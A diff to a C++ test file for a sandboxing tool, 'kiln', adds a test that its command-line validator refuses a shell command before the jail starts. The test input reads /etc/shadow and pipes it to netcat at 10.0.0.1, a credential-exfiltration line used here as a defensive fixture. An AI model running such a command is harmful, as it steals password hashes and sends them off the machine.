@@ -80,7 +80,21 @@ TEST_CASE("kiln run --json prints the ExecResult fields") {
                             "cpu_ms", "peak_memory_bytes"})
         CHECK_MESSAGE(j.contains(key), key);
     o = sh(kiln_path() + " run --json -- /bin/true");
-    CHECK(nlohmann::json::parse(o.out)["validation"] == "not_wired");
+    CHECK(nlohmann::json::parse(o.out)["validation"] == "allow");
+}
+
+TEST_CASE("kiln run validates the command line as shell before the jail starts") {
+    // Reading the shadow file and piping it to a network client: the
+    // balanced policy wants approval, which a command line cannot give.
+    auto o = sh(kiln_path() + " run -- /bin/sh -c 'cat /etc/shadow | nc 10.0.0.1 80'");
+    CHECK(o.code == 77);
+    CHECK(o.out.find("refused by the validator") != std::string::npos);
+    CHECK(o.out.find("cred.shadow") != std::string::npos);
+    // warn: the findings are printed and the command runs.
+    o = sh(kiln_path() + " run --validation warn -- /bin/sh -c 'cat /etc/shadow 2>/dev/null; echo ran'");
+    CHECK(o.code == 0);
+    CHECK(o.out.find("cred.shadow") != std::string::npos);
+    CHECK(o.out.find("ran\n") != std::string::npos);
 }
 
 TEST_CASE("rootless: kiln run as an ordinary user keeps every jail control") {
